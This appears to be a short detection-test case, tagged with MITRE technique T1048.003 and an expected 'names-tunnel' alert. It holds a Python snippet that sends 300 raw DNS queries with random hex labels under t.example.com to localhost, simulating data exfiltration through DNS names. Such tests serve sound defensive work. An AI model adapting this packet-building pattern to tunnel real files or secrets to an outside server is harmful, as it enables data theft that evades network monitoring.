# title: data leave in many names of middling length
# technique: T1048.003
# expects: names-tunnel
# needs: python3
python3 - <<'P'
import socket, os
s = socket.socket(2, 2)
for i in range(300):
    n = os.urandom(20).hex().encode()
    s.sendto(b"\0\1\1\0\0\1\0\0\0\0\0\0" + bytes([len(n)]) + n + b"\1t\7example\3com\0\0\1\0\1", ("127.0.0.1", 53))
P
